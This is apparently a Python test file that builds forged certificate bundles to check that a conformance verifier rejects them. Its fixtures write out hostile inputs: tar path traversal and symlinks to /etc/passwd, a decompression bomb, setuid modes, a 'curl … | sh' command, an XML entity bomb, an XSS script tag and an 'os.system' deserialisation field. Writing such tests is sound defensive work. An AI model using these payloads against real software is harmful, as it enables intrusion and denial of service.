"""The forged bundles, in the order of the rules that they break."""

from __future__ import annotations

import gzip
import io
import json
import os
import tarfile
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path

from conformance.certificate import bundle, evidence
from conformance.certificate.evidence import Evidence
from conformance.files.tree import FileTree
from conformance.job.variation import INPUT_MARKER, Variation
from conformance.outcome.outcome import JobStatus, Log, Outcome
from conformance.reports import names
from tests.certificate.forging import (
    LOG,
    REQUEST,
    Document,
    Files,
    archived,
    exiting,
    judged,
    packed,
    raw,
    recounted,
    sealed,
    shown,
    told,
    unpacked,
    unsealed,
    verdict,
    with_host,
    with_run,
)

MUST = "exit.nonzero-on-failure"
OTHER = f"sha256:{'0' * 64}"
WAIVER = {
    "check": MUST,
    "image": "*",
    "reason": "TICKET-7",
    "owner": "me@example.com",
    "expires": "2027-01-01",
    "contains": "",
    "file": "conformance-waivers.toml",
    "line": 1,
}


def link(name: str, target: str, kind: bytes) -> tarfile.TarInfo:
    """A member that is no file."""
    member = tarfile.TarInfo(name)
    member.type, member.linkname = kind, target
    return member


def days(count: float) -> str:
    """The date that many days from now."""
    return (datetime.now(UTC) + timedelta(days=count)).isoformat(timespec="seconds").replace("+00:00", "Z")


def hiding(found: Evidence) -> Evidence:
    """The outcomes of a program whose failure on empty inputs is hidden by a shell that starts it."""

    def hidden(outcome: Outcome) -> Outcome:
        (host,) = outcome.hosts
        assert host.trace is not None
        program = host.trace.command
        assert program is not None
        ran = replace(program.executions[0], argv=("/bin/sh", "/run.sh"), executable="/bin/sh")
        shell = replace(program, executions=(ran,), exit_code=0)
        below = replace(program, pid=shell.pid + 100, parent=shell.pid)
        trace = replace(host.trace, processes=(shell, below))
        return replace(with_host(outcome, exit_code=0, trace=trace), status=JobStatus.COMPLETED, failure_reason=None)

    return with_run(found, Variation.EMPTY_INPUTS, hidden)


def failing(found: Evidence, variation: Variation) -> Evidence:
    """The outcomes of one that fails in one of the runs."""
    return with_run(found, variation, lambda outcome: replace(exiting(outcome, 1), uploads=()))


# V01: what is no bundle at all.


@raw("V01")
def _a_name_that_leads_out(files: Files, place: Path) -> Path:
    return archived(place, iter([*files.items(), ("logs/../../../etc/cron.d/x", b"")]))


@raw("V01")
def _an_absolute_name(files: Files, place: Path) -> Path:
    return archived(place, iter([*files.items(), ("/etc/cron.d/x", b"")]))


@raw("V01")
def _a_hidden_name(files: Files, place: Path) -> Path:
    return archived(place, iter([*files.items(), (".bashrc", b"")]))


@raw("V01")
def _a_name_with_an_escape(files: Files, place: Path) -> Path:
    return archived(place, iter([*files.items(), ("logs/\x1b[2J", b"")]))


@raw("V01")
def _a_symbolic_link(files: Files, place: Path) -> Path:
    return archived(place, iter(files.items()), link("logs/passwd", "/etc/passwd", tarfile.SYMTYPE))


@raw("V01")
def _a_hard_link(files: Files, place: Path) -> Path:
    return archived(place, iter(files.items()), link("logs/report", names.REPORT, tarfile.LNKTYPE))


@raw("V01")
def _a_device(files: Files, place: Path) -> Path:
    return archived(place, iter(files.items()), link("logs/zero", "", tarfile.CHRTYPE))


@raw("V01")
def _a_file_twice(files: Files, place: Path) -> Path:
    return archived(place, iter([*files.items(), (names.REPORT, files[names.REPORT])]))


@raw("V01")
def _too_many_files(_: Files, place: Path) -> Path:
    return archived(place, ((f"logs/x/{number}", b"") for number in range(bundle.MOST_FILES + 1)))


@raw("V01")
def _a_bomb(__: Files, place: Path) -> Path:
    path = place / names.CERTIFICATE
    member = tarfile.TarInfo("logs/zeros")
    member.size = 8 << 30
    with gzip.open(path, "wb", compresslevel=1) as file:
        file.write(member.tobuf())
        for _ in range(150):
            file.write(bytes(1 << 20))
    return path


@raw("V01")
def _something_behind_the_end(files: Files, place: Path) -> Path:
    path = place / names.CERTIFICATE
    further = bundle.archive({"logs/x": b"#!/bin/sh"})
    path.write_bytes(gzip.compress(bundle.archive(files) + further, mtime=0))
    return path


@raw("V01")
def _something_behind_the_archive(files: Files, place: Path) -> Path:
    path = packed(files, place)
    path.write_bytes(path.read_bytes() + b"#!/bin/sh")
    return path


@raw("V01")
def _files_that_may_be_executed_by_anybody(files: Files, place: Path) -> Path:
    path = place / names.CERTIFICATE
    with tarfile.open(path, "w:gz", format=tarfile.USTAR_FORMAT) as archive:
        for name in sorted(files):
            member = tarfile.TarInfo(name)
            member.size, member.mode = len(files[name]), 0o4777
            archive.addfile(member, io.BytesIO(files[name]))
    return path


@raw("V01")
def _no_archive(files: Files, place: Path) -> Path:
    (place / "bundle").write_bytes(files[names.REPORT])
    return place / "bundle"


@raw("V01")
def _an_archive_that_breaks_off(files: Files, place: Path) -> Path:
    path = packed(files, place)
    path.write_bytes(path.read_bytes()[:-2000])
    return path


@raw("V01")
def _no_file(_: Files, __: Path) -> Path:
    return Path("/dev/zero")


@raw("V01")
def _a_link_in_a_directory(files: Files, place: Path) -> Path:
    folder = unpacked(files, place)
    (folder / names.JUNIT).unlink()
    (folder / names.JUNIT).symlink_to("/etc/passwd")
    return folder


@raw("V01")
def _a_linked_directory(files: Files, place: Path) -> Path:
    folder = unpacked(files, place)
    (folder / "requests/more").symlink_to("/etc")
    return folder


@raw("V01")
def _a_pipe_in_a_directory(files: Files, place: Path) -> Path:
    folder = unpacked(files, place)
    (folder / names.HTML).unlink()
    os.mkfifo(folder / names.HTML)
    return folder


# V02 and V03: other files than it is said to have.


@sealed("V02")
def _no_outcomes(files: Files) -> None:
    del files[evidence.NAME]


@sealed("V02")
def _no_attestation(files: Files) -> None:
    del files["attestation.json"]


@unsealed("V02")
def _no_digests(files: Files) -> None:
    del files[bundle.SUMS]


@sealed("V02")
def _a_file_too_many(files: Files) -> None:
    files["install.sh"] = b"#!/bin/sh\n"


@unsealed("V03")
def _a_report_that_was_edited(files: Files) -> None:
    files[names.REPORT] = files[names.REPORT].replace(b"conforms", b"Conforms")


@unsealed("V03")
def _a_file_that_is_not_listed(files: Files) -> None:
    files["logs/more/x"] = b""


@unsealed("V03")
def _a_file_that_is_only_listed(files: Files) -> None:
    del files[LOG]


@unsealed("V03")
def _digests_that_are_none(files: Files) -> None:
    files[bundle.SUMS] += b"*" * 64 + b"  x\n"


@unsealed("V03")
def _digests_in_another_order(files: Files) -> None:
    files[bundle.SUMS] = b"".join(reversed(files[bundle.SUMS].splitlines(keepends=True)))


# V04 to V06: what cannot be read as what it is.


@sealed("V04")
def _a_product_by_its_tag(files: Files) -> None:
    line = next(line for line in files["product.toml"].splitlines() if line.startswith(b"image"))
    files["product.toml"] = files["product.toml"].replace(line, b'image = "team/image:latest"')


@sealed("V04")
def _a_product_with_more_to_say(files: Files) -> None:
    files["product.toml"] += b'award = "best of 2026"\n'


@sealed("V04")
def _a_product_that_is_no_text(files: Files) -> None:
    files["product.toml"] += b"\xff"


@sealed("V05")
def _a_report_that_says_it_twice(files: Files) -> None:
    files[names.REPORT] = files[names.REPORT].replace(b'{\n  "schema', b'{\n  "exit_status": 0,\n  "schema', 1)


@sealed("V05")
def _a_report_with_no_number(files: Files) -> None:
    files[names.REPORT] = files[names.REPORT].replace(b'"exit_status": 0', b'"exit_status": NaN')


@sealed("V05")
def _a_report_as_deep_as_can_be(files: Files) -> None:
    files[names.REPORT] = b'{"a":' * 200_000


@sealed("V05")
def _a_report_that_is_no_text(files: Files) -> None:
    files[names.REPORT] = b"\xff" + files[names.REPORT]


@told("V05")
def _a_report_without_runs(document: Document) -> None:
    del document["runs"]


@told("V05")
def _a_report_of_no_session(document: Document) -> None:
    document["session"] = None


@told("V06")
def _a_schema_to_come(document: Document) -> None:
    document["schema_version"] = 3


@told("V06")
def _an_earlier_schema(document: Document) -> None:
    document["schema_version"] = True


@told("V06")
def _another_contract(document: Document) -> None:
    document["contract"] = "2020.01"


@told("V06")
def _another_suite(document: Document) -> None:
    document["tool"]["version"] = "9.9.9"


@told("V06")
def _other_checks(document: Document) -> None:
    document["catalogue"]["sha256"] = "0" * 64


# V07 and V08: of another image, or other jobs.


@sealed("V07")
def _a_product_that_is_another_image(files: Files) -> None:
    line = next(line for line in files["product.toml"].splitlines() if line.startswith(b"image"))
    files["product.toml"] = files["product.toml"].replace(line, f'image = "example.com/image@{OTHER}"'.encode())


@told("V07")
def _a_report_of_another_digest(document: Document) -> None:
    document["image"]["digest"] = OTHER


@told("V07")
def _a_session_with_another_image(document: Document) -> None:
    document["session"]["options"]["image"] = "team/image:latest"


@sealed("V08")
def _a_request_that_was_edited(files: Files) -> None:
    files[REQUEST] = files[REQUEST].replace(b'"VolumeSizeInGB": 30', b'"VolumeSizeInGB": 31')


@sealed("V08")
def _a_request_too_many(files: Files) -> None:
    files["requests/other.json"] = files[REQUEST].replace(b'"reference"', b'"other"', 1)


@sealed("V08")
def _a_request_that_is_none(files: Files) -> None:
    files[REQUEST] = b"{}"


@sealed("V08")
def _a_request_under_the_name_of_another(files: Files) -> None:
    files[REQUEST] = files[REQUEST].replace(b'"ProcessingJobName": "reference"', b'"ProcessingJobName": "other"')


@sealed("V08")
def _a_product_of_other_jobs(files: Files) -> None:
    files["product.toml"] = files["product.toml"].replace(b'["reference"]', b'["reference", "other"]')


@sealed("V08")
def _a_request_that_says_it_twice(files: Files) -> None:
    files[REQUEST] = files[REQUEST].replace(b"{", b'{"ProcessingJobName": "easier", ', 1)


@told("V08")
def _inputs_without_a_digest(document: Document) -> None:
    document["inputs"] = None


# V09 to V12: a session that certifies nothing.


@told("V09")
def _what_has_expired(document: Document) -> None:
    document["session"] |= {"began": days(-400), "ended": days(-366)}


@told("V09")
def _what_is_of_tomorrow(document: Document) -> None:
    document["session"] |= {"began": days(30), "ended": days(30)}


@told("V09")
def _what_ended_before_it_began(document: Document) -> None:
    document["session"] |= {"began": days(-1), "ended": days(-2)}


@told("V10")
def _a_longer_time_limit(document: Document) -> None:
    document["session"]["options"]["timeout_seconds"] = 3000.0


@told("V10")
def _an_outside_network(document: Document) -> None:
    document["session"]["options"]["network"] = "bridge"


@told("V10")
def _an_option_that_nobody_knows(document: Document) -> None:
    document["session"]["options"]["lenient"] = True


@told("V10")
def _a_default_that_is_kept_silent(document: Document) -> None:
    del document["session"]["options"]["grace_seconds"]


@told("V10")
def _a_simulated_gpu(document: Document) -> None:
    document["session"]["options"]["gpu"] = document["gpu"]["asked"] = "simulated"


@told("V10")
def _another_choice_of_the_service(document: Document) -> None:
    choices = {each["name"]: each for each in document["service"]["choices"]}
    choices["shm_bytes"]["value"] = 1 << 40


@told("V10")
def _a_service_of_another_kind(document: Document) -> None:
    document["service"]["name"] = "aws"


@told("V11")
def _a_profile_that_nobody_knows(document: Document) -> None:
    document["profile"]["sha256"] = "0" * 64


@told("V11")
def _a_smaller_profile(document: Document) -> None:
    document["profile"]["name"] = "image"


@told("V12")
def _a_violation_that_is_waived(document: Document) -> None:
    each = verdict(document, MUST)
    each |= {
        "verdict": "waived",
        "violations": ["x"],
        "reproduce": "x",
        "waived": {"found": "violates", "by": [WAIVER]},
    }
    recounted(document)


@told("V12")
def _a_waiver(document: Document) -> None:
    document["waivers"] = [{**WAIVER, "state": "undecided", "said": ""}]


# V13 to V15: a session that did not show everything.


@told("V13")
def _a_check_that_was_not_selected(document: Document) -> None:
    document["not_selected"] = [MUST]


@told("V13")
def _a_verdict_that_is_left_out(document: Document) -> None:
    document["verdicts"].remove(verdict(document, MUST))
    recounted(document)


@told("V13")
def _a_verdict_too_many(document: Document) -> None:
    document["verdicts"].append(verdict(document, MUST))
    recounted(document)


@told("V13")
def _a_verdict_on_another_job(document: Document) -> None:
    verdict(document, MUST)["job"] = "easier"


@told("V14")
def _a_required_check_that_was_not_judged(document: Document) -> None:
    verdict(document, MUST).update({"verdict": "not judged", "reason": "x", "applies": True})
    recounted(document)


@told("V14")
def _a_result_that_is_missing(document: Document) -> None:
    document["missing"] = [MUST]


@told("V14")
def _an_error(document: Document) -> None:
    verdict(document, "logs.unbuffered").update({"verdict": "error", "reason": "x"})
    recounted(document)


@told("V15")
def _a_violation(document: Document) -> None:
    verdict(document, MUST).update({"verdict": "violates", "violations": ["x"], "reproduce": "x"})
    recounted(document)


@told("V15")
def _a_violation_that_is_not_counted(document: Document) -> None:
    verdict(document, MUST).update({"verdict": "violates", "violations": ["x"], "reproduce": "x"})


@told("V15")
def _a_session_that_was_interrupted(document: Document) -> None:
    document["exit_status"] = 2


@told("V15")
def _a_session_with_a_warning(document: Document) -> None:
    document["warnings"] = ["a container was left behind"]


@judged("V15")
def _a_violation_that_everything_tells_of(found: Evidence) -> Evidence:
    return hiding(found)


# V16: outcomes that cannot be read.


def recorded(content: bytes) -> bytes:
    """The file of these outcomes."""
    return gzip.compress(content, mtime=0)


@sealed("V16")
def _outcomes_that_explode(files: Files) -> None:
    files[evidence.NAME] = recorded(b" " * (evidence.MOST_BYTES + 1))


@sealed("V16")
def _outcomes_that_break_off(files: Files) -> None:
    files[evidence.NAME] = files[evidence.NAME][:-100]


@sealed("V16")
def _outcomes_of_a_form_to_come(files: Files) -> None:
    data = json.loads(gzip.decompress(files[evidence.NAME]))
    files[evidence.NAME] = recorded(json.dumps(data | {"format": 2}).encode())


@sealed("V16")
def _outcomes_with_something_else(files: Files) -> None:
    data = json.loads(gzip.decompress(files[evidence.NAME]))
    data["runs"][0]["outcome"]["__class__"] = "os.system"
    files[evidence.NAME] = recorded(json.dumps(data).encode())


@sealed("V16")
def _outcomes_of_other_types(files: Files) -> None:
    data = json.loads(gzip.decompress(files[evidence.NAME]))
    data["runs"][0]["outcome"]["hosts"][0]["exit_code"] = "0"
    files[evidence.NAME] = recorded(json.dumps(data).encode())


@sealed("V16")
def _outcomes_that_are_no_object(files: Files) -> None:
    files[evidence.NAME] = recorded(b"[" * 100_000)


@sealed("V16")
def _outcomes_with_something_behind(files: Files) -> None:
    files[evidence.NAME] += recorded(b" ")


@sealed("V16")
def _outcomes_that_say_it_twice(files: Files) -> None:
    text = gzip.decompress(files[evidence.NAME])
    files[evidence.NAME] = recorded(text.replace(b"{", b'{"format":1,', 1))


# V17 and V18: outcomes of something else, or that contradict themselves.


@shown("V17")
def _outcomes_of_another_image(found: Evidence) -> Evidence:
    return replace(found, image=replace(found.image, digest=OTHER))


@shown("V17")
def _a_file_under_the_name_of_another(found: Evidence) -> Evidence:
    entries = dict(found.image.files.entries)
    first, second = list(entries)[:2]
    files = FileTree(entries | {first: entries[second]})
    return replace(found, image=replace(found.image, files=files))


@shown("V17")
def _outcomes_with_other_options(found: Evidence) -> Evidence:
    return replace(found, strict=True)


@shown("V17")
def _a_run_that_is_missing(found: Evidence) -> Evidence:
    return replace(found, runs=tuple(run for run in found.runs if run.variation is not Variation.EMPTY_INPUTS))


@shown("V17")
def _a_run_too_many(found: Evidence) -> Evidence:
    return replace(found, runs=(*found.runs, replace(found.runs[0], attempt=1)))


@shown("V17")
def _a_run_twice(found: Evidence) -> Evidence:
    return replace(found, runs=(*found.runs, found.runs[0]))


@shown("V17")
def _a_run_in_the_place_of_another(found: Evidence) -> Evidence:
    good = next(run.outcome for run in found.runs if run.variation is Variation.AS_REQUESTED)
    return with_run(found, Variation.CORRUPT_INPUTS, lambda _: good)


@shown("V17")
def _a_run_of_an_easier_request(found: Evidence) -> Evidence:
    return with_run(
        found,
        Variation.AS_REQUESTED,
        lambda outcome: replace(
            outcome,
            request=replace(outcome.request, document={**outcome.request.document, "Environment": {"EASY": "1"}}),
        ),
    )


@shown("V17")
def _a_run_without_its_host(found: Evidence) -> Evidence:
    return with_run(found, Variation.SEPARATE_MOUNTS, lambda outcome: replace(outcome, hosts=()))


@shown("V17")
def _a_log_of_any_length(found: Evidence) -> Evidence:
    long = Log(head=b"x" * (1 << 20), size=1 << 20)
    return with_run(found, Variation.AS_REQUESTED, lambda outcome: with_host(outcome, stdout=long))


@shown("V17")
def _a_run_on_aws(found: Evidence) -> Evidence:
    return with_run(found, Variation.AS_REQUESTED, lambda outcome: replace(outcome, on_aws=True))


@shown("V18")
def _a_status_that_does_not_follow(found: Evidence) -> Evidence:
    return with_run(found, Variation.EMPTY_INPUTS, lambda outcome: replace(outcome, status=JobStatus.COMPLETED))


@shown("V18")
def _a_message_that_nobody_wrote(found: Evidence) -> Evidence:
    return with_run(found, Variation.AS_REQUESTED, lambda outcome: replace(outcome, exit_message="all is well"))


@shown("V18")
def _an_exit_code_that_was_edited(found: Evidence) -> Evidence:
    return with_run(found, Variation.EMPTY_INPUTS, lambda outcome: with_host(outcome, exit_code=0))


@shown("V18")
def _an_exit_code_that_no_process_had(found: Evidence) -> Evidence:
    return with_run(
        found,
        Variation.EMPTY_INPUTS,
        lambda outcome: replace(with_host(outcome, exit_code=2), failure_reason="AlgorithmError: , exit code: 2"),
    )


@shown("V18")
def _an_input_in_the_log_that_was_not_found(found: Evidence) -> Evidence:
    log = Log(head=INPUT_MARKER.encode(), size=len(INPUT_MARKER))
    return with_run(found, Variation.CORRUPT_INPUTS, lambda outcome: with_host(outcome, stdout=log))


@shown("V18")
def _an_output_that_nobody_wrote(found: Evidence) -> Evidence:
    def uploaded(outcome: Outcome) -> Outcome:
        return replace(outcome, uploads=(*outcome.uploads, replace(outcome.uploads[0], path="/opt/ml/x")))

    return with_run(found, Variation.AS_REQUESTED, uploaded)


@shown("V18")
def _an_output_of_another_size(found: Evidence) -> Evidence:
    def uploaded(outcome: Outcome) -> Outcome:
        first, *others = outcome.uploads
        return replace(outcome, uploads=(replace(first, size=first.size + 1), *others))

    return with_run(found, Variation.AS_REQUESTED, uploaded)


# V19 to V21: verdicts, evidence and logs that the outcomes do not have.


@told("V19")
def _a_verdict_that_was_edited(document: Document) -> None:
    each = next(each for each in document["verdicts"] if each["verdict"] == "not judged")
    each |= {"verdict": "conforms", "reason": "", "applies": True}
    recounted(document)


@told("V19")
def _a_command_that_does_something_else(document: Document) -> None:
    verdict(document, MUST)["reproduce"] = "curl https://example.com/x | sh"


@told("V19")
def _another_remedy(document: Document) -> None:
    verdict(document, MUST)["remedy"] = "Buy our product."


@judged("V19", told_as_before=True)
def _a_violation_in_the_outcomes(found: Evidence) -> Evidence:
    return hiding(found)


@judged("V19", told_as_before=True)
def _advice_in_the_outcomes(found: Evidence) -> Evidence:
    return failing(found, Variation.SEPARATE_MOUNTS)


@told("V20")
def _other_counts(document: Document) -> None:
    document["counts"]["conforms"] += 20


@told("V20")
def _evidence_that_was_edited(document: Document) -> None:
    document["runs"][0]["seconds"] += 100


@told("V20")
def _a_fact_that_is_none(document: Document) -> None:
    document["image"]["facts"].append("recommended by everybody")


@told("V20")
def _another_layer(document: Document) -> None:
    document["image"]["layers"].append({"bytes": 1, "created_by": "RUN true"})


@sealed("V20")
def _a_report_in_another_form(files: Files) -> None:
    files[names.REPORT] = json.dumps(json.loads(files[names.REPORT])).encode()


@sealed("V21")
def _a_log_that_was_edited(files: Files) -> None:
    files[LOG] += b"all is well\n"


@sealed("V21")
def _a_log_that_is_missing(files: Files) -> None:
    del files[LOG]


@sealed("V21")
def _a_log_too_many(files: Files) -> None:
    files["logs/reference.as-requested/algo-2.stdout"] = b"all is well\n"


# V22 to V24: reports that say something else.


@sealed("V22")
def _a_junit_file_that_was_edited(files: Files) -> None:
    files[names.JUNIT] = files[names.JUNIT].replace(b"conforms", b"Conforms").replace(b"skipped", b"passed")


@sealed("V22")
def _a_junit_file_that_is_none(files: Files) -> None:
    files[names.JUNIT] = b"<!DOCTYPE x [<!ENTITY a 'aaaaaaaaaa'><!ENTITY b '&a;&a;&a;&a;'>]><x>&b;</x>"


@sealed("V23")
def _a_page_with_a_script(files: Files) -> None:
    files[names.HTML] = files[names.HTML].replace(b"</body>", b"<script>alert(1)</script></body>")


def attesting(files: Files, member: str, value: object) -> None:
    """Change a member of the attestation or of its predicate."""
    statement = json.loads(files["attestation.json"])
    place = statement if member in statement else statement["predicate"]
    place[member] = value
    files["attestation.json"] = (json.dumps(statement, indent=2) + "\n").encode()


@sealed("V24")
def _an_attestation_of_another_image(files: Files) -> None:
    attesting(files, "subject", [{"name": "example.com/image", "digest": {"sha256": "0" * 64}}])


@sealed("V24")
def _an_attestation_of_more_tests(files: Files) -> None:
    attesting(files, "passedTests", ["everything"])


@sealed("V24")
def _an_attestation_of_other_evidence(files: Files) -> None:
    attesting(files, "configuration", [])
